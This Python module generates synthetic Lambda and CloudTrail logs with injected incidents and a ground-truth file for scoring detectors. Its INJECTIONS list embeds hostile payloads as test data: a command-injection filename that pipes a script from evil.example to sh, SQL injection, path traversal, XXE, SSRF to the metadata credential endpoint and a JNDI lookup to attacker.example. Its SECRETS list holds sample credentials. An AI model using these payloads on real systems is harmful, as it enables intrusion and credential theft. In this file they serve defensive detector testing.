"""A seeded generator of realistic Lambda and CloudTrail logs with injected incidents.

``faasguard logs generate --out DIR --size 100MB --seed N --format mixed`` writes the logs of
several functions (Python and Node runtimes; the classic text format, Lambda's JSON log
format with ``platform.*`` records, and Powertools structured lines) in one or all of the
container formats faasguard reads, plus CloudTrail files, and ``ground_truth.json``: every
injected incident with its rule id, function and time window. Tests and the benchmark
score each detector's precision and recall against it.

The same seed and size always give the same bytes (a ``random.Random`` seeded once; no
wall-clock time, no ``hash()``).
"""

from __future__ import annotations

import datetime as dt
import json
import math
import random
import zlib
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from faasguard.logs.generator_cloudtrail import write_cloudtrail
from faasguard.logs.generator_containers import write_container
from faasguard.logs.generator_world import (
    FUNCTIONS,
    REGION,
    START,
    FunctionSpec,
    GeneratorState,
    Incident,
    Plan,
    iso_ms,
    iso_s,
    minute_time,
)

#: Container formats; ``mixed`` gives each function another one (round robin).
CONTAINERS = ("plain", "gzip", "s3-export", "subscription", "filter-log-events", "jsonl")
#: ``firehose`` (subscription payloads as Kinesis Data Firehose writes them to S3) is not in
#: the ``mixed`` rotation, so the mixed output (and every test pinned on it) stays as it was.
FORMATS = (*CONTAINERS, "firehose", "mixed")

_BYTES_PER_INVOCATION = 820.0  # measured average over the styles; sizes the request rates
_BASE_ERROR_RATE = 0.004
_BASE_COLD_RATE = 0.01

#: Injection payloads by category (what LOG017 must find) and leaked secrets (LOG018).
INJECTIONS: tuple[tuple[str, str], ...] = (
    ("sqli", "' OR 1=1 UNION SELECT username, password FROM users--"),
    ("command", "invoice.pdf; curl http://evil.example/x.sh | sh"),
    ("path-traversal", "../../../../etc/passwd"),
    ("template", "{{7*7}}${{ self.__init__.__globals__ }}"),
    ("xxe", '<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'),
    ("ssrf-metadata", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("jndi", "${jndi:ldap://attacker.example:1389/a}"),
)
SECRETS: tuple[tuple[str, str], ...] = (
    ("aws-access-key", "AKIAIOSFODNN7EXAMPLQ"),
    ("private-key", "-----BEGIN RSA PRIVATE KEY-----MIIEowIBAAKCAQEA7"),
    ("github-token", "ghp_" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8"),
    ("slack-token", "xoxb-123456789012-1234567890123-AbCdEfGhIjKlMnOpQrStUvWx"),
)
#: Functions triggered by an SQS queue: their logged events are SQS batches (LOG021).
_QUEUE_FUNCTIONS = frozenset({"notify"})
_BENIGN_PATHS = ("/orders/1042", "/cart", "/products?page=2", "/users/me", "/health")


def parse_size(text: str) -> int:
    """``100MB``/``1GB``/``512KB``/``12345`` → bytes (decimal units, as disks are sold)."""
    value = text.strip().upper().removesuffix("B")
    units = {"K": 10**3, "M": 10**6, "G": 10**9}
    if value and value[-1] in units:
        return int(float(value[:-1]) * units[value[-1]])
    return int(float(value or "0"))


@dataclass(frozen=True, slots=True)
class _Call:
    """One invocation to write out, in whichever log style its function uses."""

    fn: FunctionSpec
    t: int
    rid: str
    duration: float
    memory_used: int
    init_ms: float | None
    outcome: str
    error_type: str | None
    payload: tuple[str, str] | None


class _Generator(GeneratorState):
    def __init__(self, out: Path, size: int, seed: int, container: str) -> None:
        super().__init__(out, size, seed, container)
        minutes = self.hours * 60
        total_weight = sum(f.weight for f in FUNCTIONS)
        per_minute = size / _BYTES_PER_INVOCATION / minutes
        self.rate = {f.name: max(0.2, per_minute * f.weight / total_weight) for f in FUNCTIONS}
        self.plan = self._plan(minutes)
        # Planned with its own generator, so the incidents above keep their times and bytes.
        late = random.Random(f"near-timeout-{seed}").uniform(0.2, 0.3)
        self.plan.near_timeout = ("checkout", int(minutes * late) // 5 * 5 + 3, 3)
        behind = random.Random(f"backlog-{seed}").uniform(0.12, 0.18)
        self.plan.backlog = ("notify", int(minutes * behind) // 5 * 5, 3, 240)
        self.warm: dict[str, bool] = {}
        self.seen_first: set[str] = set()

    # -- planning -------------------------------------------------------------------------

    def _plan(self, minutes: int) -> Plan:
        rng = self.rng
        plan = Plan(minutes=minutes)

        def at(fraction_low: float, fraction_high: float) -> int:
            # Incidents start on a 5-minute boundary after the baseline period.
            m = int(minutes * rng.uniform(fraction_low, fraction_high))
            return m - m % 5

        plan.timeouts[("checkout", at(0.35, 0.45) + 2)] = 3
        plan.timeouts[("report-export", at(0.7, 0.8) + 1)] = 1
        plan.ooms[("image-resize", at(0.5, 0.6) + 3)] = 2
        plan.error_spike = ("orders-api", at(0.4, 0.5), 10)
        plan.new_error = ("payments", at(0.65, 0.75), 5)
        plan.slow = ("notify", at(0.55, 0.65), 10)
        plan.surge = ("orders-api", at(0.8, 0.9), 10)
        plan.cold_burst = ("checkout", at(0.6, 0.7), 10)
        names = ("checkout", "orders-api", "payments", "notify")
        for index, (category, payload) in enumerate(INJECTIONS):
            key = (names[index % len(names)], at(0.3, 0.95) + 1)
            plan.injections.setdefault(key, []).append((category, payload))
        for index, (category, secret) in enumerate(SECRETS):
            key = (names[(index + 1) % len(names)], at(0.3, 0.95) + 2)
            plan.secrets.setdefault(key, []).append((category, secret))
        return plan

    def _record_plan(self) -> None:
        p = self.plan
        for (fn, m), count in p.timeouts.items():
            self.incidents.append(
                Incident(
                    "timeout", "LOG010", fn, minute_time(m), minute_time(m + 1), f"{count} timeouts"
                )
            )
        for (fn, m), count in p.ooms.items():
            self.incidents.append(
                Incident(
                    "oom", "LOG011", fn, minute_time(m), minute_time(m + 1), f"{count} OOM exits"
                )
            )
        simple = (
            ("error-spike", "LOG012", p.error_spike),
            ("new-error-type", "LOG013", p.new_error),
            ("duration-anomaly", "LOG014", p.slow),
            ("invocation-surge", "LOG015", p.surge),
            ("cold-start-burst", "LOG016", p.cold_burst),
        )
        for kind, rule_id, (fn, m, length) in simple:
            self.incidents.append(
                Incident(kind, rule_id, fn, minute_time(m), minute_time(m + length))
            )
        # Half the invocations fail with the new type while it lasts: that is a spike too.
        fn, m, length = p.new_error
        self.incidents.append(
            Incident(
                "error-spike",
                "LOG012",
                fn,
                minute_time(m),
                minute_time(m + length),
                "caused by the new error type",
            )
        )
        fn, m, count = p.near_timeout
        self.incidents.append(
            Incident(
                "near-timeout",
                "LOG019",
                fn,
                minute_time(m),
                minute_time(m + 1),
                f"{count} invocations at 82-94 % of the timeout",
            )
        )
        fn, m, length, lag = p.backlog
        self.incidents.append(
            Incident(
                "queue-backlog",
                "LOG021",
                fn,
                minute_time(m),
                minute_time(m + length),
                f"SQS messages processed {lag} s or more after they were sent",
            )
        )
        for (fn, m), items in p.injections.items():
            for category, _ in items:
                self.incidents.append(
                    Incident(
                        "injection", "LOG017", fn, minute_time(m), minute_time(m + 1), category
                    )
                )
        for (fn, m), items in p.secrets.items():
            for category, _ in items:
                self.incidents.append(
                    Incident("secret", "LOG018", fn, minute_time(m), minute_time(m + 1), category)
                )

    # -- invocations ------------------------------------------------------------------------

    def _rid(self) -> str:
        bits = self.rng.getrandbits(128)
        h = f"{bits:032x}"
        return f"{h[:8]}-{h[8:12]}-4{h[13:16]}-{h[16:20]}-{h[20:]}"

    def _poisson(self, lam: float) -> int:
        if lam > 30:
            return max(0, round(self.rng.gauss(lam, math.sqrt(lam))))
        limit, k, p = math.exp(-lam), 0, 1.0
        while True:
            p *= self.rng.random()
            if p <= limit:
                return k
            k += 1

    def invocations(self, fn: FunctionSpec, minute: int) -> list[tuple[int, str]]:
        """(epoch ms, log line without the container's timestamp prefix) of one minute."""
        p = self.plan
        rate = self.rate[fn.name]
        surge_fn, surge_at, surge_len = p.surge
        if fn.name == surge_fn and surge_at <= minute < surge_at + surge_len:
            rate *= 15
        count = self._poisson(rate)
        timeouts = p.timeouts.get((fn.name, minute), 0)
        ooms = p.ooms.get((fn.name, minute), 0)
        injections = list(p.injections.get((fn.name, minute), []))
        secrets = list(p.secrets.get((fn.name, minute), []))
        near_fn, near_at, near_count = p.near_timeout
        slow = near_count if (fn.name, minute) == (near_fn, near_at) else 0
        count = max(count, timeouts + ooms + slow, len(injections), len(secrets))
        base = int((START + dt.timedelta(minutes=minute)).timestamp() * 1000)
        lines: list[tuple[int, str]] = []
        for index in range(count):
            start_ms = base + self.rng.randrange(60_000)
            outcome = "ok"
            if index < timeouts:
                outcome = "timeout"
            elif index < timeouts + ooms:
                outcome = "oom"
            elif index < timeouts + ooms + slow:
                outcome = "slow"
            payload: tuple[str, str] | None = None
            if injections:
                payload = ("event", injections.pop()[1])
            elif secrets:
                payload = ("secret", secrets.pop()[1])
            lines.extend(self._invocation(fn, minute, start_ms, outcome, payload))
        return lines

    def _invocation(
        self,
        fn: FunctionSpec,
        minute: int,
        t: int,
        outcome: str,
        payload: tuple[str, str] | None,
    ) -> list[tuple[int, str]]:
        rng, p = self.rng, self.plan
        rid = self._rid()
        cold_fn, cold_at, cold_len = p.cold_burst
        cold_rate = 0.5 if fn.name == cold_fn and cold_at <= minute < cold_at + cold_len else 0
        cold = not self.warm.get(fn.name) or rng.random() < max(cold_rate, _BASE_COLD_RATE)
        self.warm[fn.name] = True
        duration = rng.lognormvariate(math.log(fn.median_ms), 0.35)
        slow_fn, slow_at, slow_len = p.slow
        if fn.name == slow_fn and slow_at <= minute < slow_at + slow_len:
            duration *= 8
        duration = min(duration, fn.timeout * 1000 * 0.7)
        error_type: str | None = None
        spike_fn, spike_at, spike_len = p.error_spike
        new_fn, new_at, new_len = p.new_error
        if fn.name not in self.seen_first:
            # Every usual error type shows up once early, as it would in real history.
            self.seen_first.add(fn.name)
            error_type = fn.error_types[0]
        elif fn.name == spike_fn and spike_at <= minute < spike_at + spike_len:
            error_type = fn.error_types[0] if rng.random() < 0.6 else None
        elif fn.name == new_fn and new_at <= minute < new_at + new_len and rng.random() < 0.5:
            error_type = "PaymentGatewayTimeoutError"
        elif rng.random() < _BASE_ERROR_RATE:
            error_type = fn.error_types[0]
        if outcome != "ok":
            error_type = None
        memory_used = min(fn.memory - 1, int(fn.base_memory * rng.uniform(0.9, 1.2)))
        if outcome == "timeout":
            duration = fn.timeout * 1000.0 + rng.uniform(0.5, 40)
        if outcome == "slow":
            # Completes, but close to the timeout (no extra random draw: the stream of the
            # other invocations stays as it was).
            duration = fn.timeout * 1000.0 * (0.82 + (t % 13) / 100)
            outcome = "ok"
        if outcome == "oom":
            memory_used = fn.memory
        init_ms = rng.uniform(150, 900) if cold else None
        call = _Call(fn, t, rid, duration, memory_used, init_ms, outcome, error_type, payload)
        return self._json_style(call) if fn.style == "json" else self._text_style(call)

    def _event_text(self, fn: FunctionSpec, t: int, payload: tuple[str, str] | None) -> str:
        path = self.rng.choice(_BENIGN_PATHS)
        if fn.name in _QUEUE_FUNCTIONS:
            return self._sqs_event(t, path, payload)
        if payload and payload[0] == "event":
            return json.dumps({"httpMethod": "POST", "path": path, "body": payload[1]})
        return json.dumps({"httpMethod": "GET", "path": path, "body": None})

    def _sqs_event(self, t: int, path: str, payload: tuple[str, str] | None) -> str:
        """An SQS batch of one message; sent well before ``t`` while the backlog lasts."""
        fn, at, length, lag = self.plan.backlog
        minute = (t - int(START.timestamp() * 1000)) // 60_000
        # No random draw: the other invocations keep their bytes.
        sent = t - 20 - t % 900
        if fn in _QUEUE_FUNCTIONS and at <= minute < at + length:
            sent -= lag * 1000 + t % 30_000
        body = payload[1] if payload and payload[0] == "event" else f"notify {path}"
        record = {
            "messageId": f"{zlib.crc32(str(t).encode()):08x}-{t % 10000:04d}",
            "body": body,
            "attributes": {"ApproximateReceiveCount": "1", "SentTimestamp": str(sent)},
            "eventSource": "aws:sqs",
        }
        return json.dumps({"Records": [record]})

    def _app_lines(
        self, fn: FunctionSpec, t: int, rid: str, payload: tuple[str, str] | None
    ) -> list[tuple[str, str]]:
        """(level, message) of the handler's own output."""
        out = [("INFO", f"Received event: {self._event_text(fn, t, payload)}")]
        if payload and payload[0] == "secret":
            out.append(("DEBUG", f"using credentials token={payload[1]}"))
        out.append(
            (
                "INFO",
                f"processed item {self.rng.randrange(100000)} for tenant "
                f"t-{self.rng.randrange(40)}",
            )
        )
        return out

    def _text_style(self, call: _Call) -> list[tuple[int, str]]:
        fn, t, rid, duration = call.fn, call.t, call.rid, call.duration
        memory_used, init_ms, outcome = call.memory_used, call.init_ms, call.outcome
        error_type, payload = call.error_type, call.payload
        node = fn.runtime.startswith("nodejs")
        lines: list[tuple[int, str]] = []
        if init_ms is not None:
            version = "nodejs:20.v22" if node else "python:3.12.v18"
            lines.append(
                (
                    t - int(init_ms),
                    f"INIT_START Runtime Version: {version}\tRuntime "
                    f"Version ARN: arn:aws:lambda:{REGION}::runtime:{'0' * 12}",
                )
            )
        lines.append((t, f"START RequestId: {rid} Version: $LATEST"))
        now = t + 1
        for level, message in self._app_lines(fn, t, rid, payload):
            lines.append((now, self._app_line(fn, now, rid, level, message)))
            now += 1
        end = t + int(duration)
        if error_type:
            lines.append((end, self._error_line(fn, end, rid, error_type)))
        if outcome == "timeout":
            # The real message repeats the timestamp before the request id.
            lines.append(
                (end, f"{iso_ms(end)} {rid} Task timed out after {fn.timeout:.2f} seconds")
            )
        if outcome == "oom":
            lines.append(
                (end, f"RequestId: {rid} Error: Runtime exited with error: signal: killed")
            )
            lines.append((end, "Runtime.ExitError"))
        lines.append((end, f"END RequestId: {rid}"))
        report = (
            f"REPORT RequestId: {rid}\tDuration: {duration:.2f} ms\tBilled Duration: "
            f"{math.ceil(duration)} ms\tMemory Size: {fn.memory} MB\tMax Memory Used: "
            f"{memory_used} MB\t"
        )
        if init_ms is not None:
            report += f"Init Duration: {init_ms:.2f} ms\t"
        lines.append((end, report))
        return lines

    def _app_line(self, fn: FunctionSpec, t: int, rid: str, level: str, message: str) -> str:
        if fn.style == "powertools":
            return json.dumps(
                {
                    "level": level,
                    "location": "handler:31",
                    "message": message,
                    "timestamp": iso_ms(t).replace("Z", "+0000"),
                    "service": fn.name,
                    "cold_start": False,
                    "function_name": fn.name,
                    "function_memory_size": str(fn.memory),
                    "function_request_id": rid,
                },
                separators=(",", ":"),
            )
        if fn.runtime.startswith("nodejs"):
            return f"{iso_ms(t)}\t{rid}\t{level}\t{message}"
        return f"[{level}]\t{iso_ms(t)}\t{rid}\t{message}"

    def _error_line(self, fn: FunctionSpec, t: int, rid: str, error_type: str) -> str:
        detail = f"request {self.rng.randrange(10**6)} failed"
        if fn.style == "powertools":
            return json.dumps(
                {
                    "level": "ERROR",
                    "location": "handler:52",
                    "message": "Unhandled error",
                    "timestamp": iso_ms(t).replace("Z", "+0000"),
                    "service": fn.name,
                    "function_request_id": rid,
                    "exception": f'Traceback (most recent call last):\n  File "/var/task/'
                    f'app.py", line 52, in handler\n{error_type}: {detail}',
                    "exception_name": error_type,
                },
                separators=(",", ":"),
            )
        if fn.runtime.startswith("nodejs"):
            body = json.dumps(
                {
                    "errorType": error_type,
                    "errorMessage": detail,
                    "stack": [
                        f"{error_type}: {detail}",
                        "    at Runtime.handler (/var/task/index.js:12:20)",
                    ],
                },
                separators=(",", ":"),
            )
            return f"{iso_ms(t)}\t{rid}\tERROR\tInvoke Error \t{body}"
        return (
            f"[ERROR] {error_type}: {detail}\rTraceback (most recent call last):\r  File "
            f'"/var/task/app.py", line 42, in handler\r    raise {error_type}(msg)'
        )

    def _json_style(self, call: _Call) -> list[tuple[int, str]]:
        fn, t, rid, duration = call.fn, call.t, call.rid, call.duration
        memory_used, init_ms, outcome = call.memory_used, call.init_ms, call.outcome
        error_type, payload = call.error_type, call.payload

        def platform(ts: int, kind: str, record: dict[str, Any]) -> tuple[int, str]:
            body = {"time": iso_ms(ts), "type": kind, "record": record}
            return ts, json.dumps(body, separators=(",", ":"))

        lines: list[tuple[int, str]] = []
        if init_ms is not None:
            lines.append(
                platform(
                    t - int(init_ms),
                    "platform.initStart",
                    {
                        "initializationType": "on-demand",
                        "phase": "init",
                        "runtimeVersion": "python:3.12.v18",
                    },
                )
            )
        lines.append(platform(t, "platform.start", {"requestId": rid, "version": "$LATEST"}))
        now = t + 1
        for level, message in self._app_lines(fn, t, rid, payload):
            body: dict[str, Any] = {
                "timestamp": iso_ms(now),
                "level": level,
                "message": message,
                "logger": "root",
                "requestId": rid,
            }
            lines.append((now, json.dumps(body, separators=(",", ":"))))
            now += 1
        end = t + int(duration)
        if error_type:
            body = {
                "timestamp": iso_ms(end),
                "level": "ERROR",
                "message": {
                    "errorMessage": f"request {self.rng.randrange(10**6)} failed",
                    "errorType": error_type,
                    "requestId": rid,
                    "stackTrace": ['  File "/var/task/app.py", line 42, in handler\n'],
                },
                "requestId": rid,
            }
            lines.append((end, json.dumps(body, separators=(",", ":"))))
        status = {"ok": "success", "timeout": "timeout", "oom": "error"}[outcome]
        metrics: dict[str, Any] = {
            "durationMs": round(duration, 2),
            "billedDurationMs": math.ceil(duration),
            "memorySizeMB": fn.memory,
            "maxMemoryUsedMB": memory_used,
        }
        if init_ms is not None:
            metrics["initDurationMs"] = round(init_ms, 2)
        record: dict[str, Any] = {"requestId": rid, "metrics": metrics, "status": status}
        if outcome == "oom":
            record["errorType"] = "Runtime.OutOfMemory"
        lines.append(platform(end, "platform.report", record))
        return lines

    # -- writing ----------------------------------------------------------------------------

    def run(self) -> dict[str, Any]:
        self._record_plan()
        containers = {
            fn.name: (
                CONTAINERS[i % len(CONTAINERS)] if self.container == "mixed" else self.container
            )
            for i, fn in enumerate(FUNCTIONS)
        }
        for hour in range(self.hours):
            for fn in FUNCTIONS:
                events: list[tuple[int, str]] = []
                for minute in range(hour * 60, hour * 60 + 60):
                    events.extend(self.invocations(fn, minute))
                events.sort(key=lambda e: e[0])
                write_container(self, containers[fn.name], fn, hour, events)
        write_cloudtrail(self)
        truth = {
            "seed_note": "generated by faasguard logs generate",
            "start": iso_s(START),
            "end": iso_s(START + dt.timedelta(hours=self.hours)),
            "bytes": self.written,
            "functions": [
                {
                    "name": f.name,
                    "runtime": f.runtime,
                    "memory": f.memory,
                    "timeout": f.timeout,
                    "container": containers[f.name],
                    "style": f.style,
                }
                for f in FUNCTIONS
            ],
            "incidents": [i.to_dict() for i in self.incidents],
        }
        (self.out / "ground_truth.json").write_text(json.dumps(truth, indent=2) + "\n")
        return truth


def generate(out: Path, *, size: int, seed: int = 0, container: str = "mixed") -> dict[str, Any]:
    """Write generated logs of about ``size`` bytes (uncompressed) below ``out``.

    Returns the ground truth (also written to ``out/ground_truth.json``).
    """
    if container not in FORMATS:
        raise ValueError(f"unknown format '{container}' (expected one of: {', '.join(FORMATS)})")
    out.mkdir(parents=True, exist_ok=True)
    return _Generator(out, size, seed, container).run()
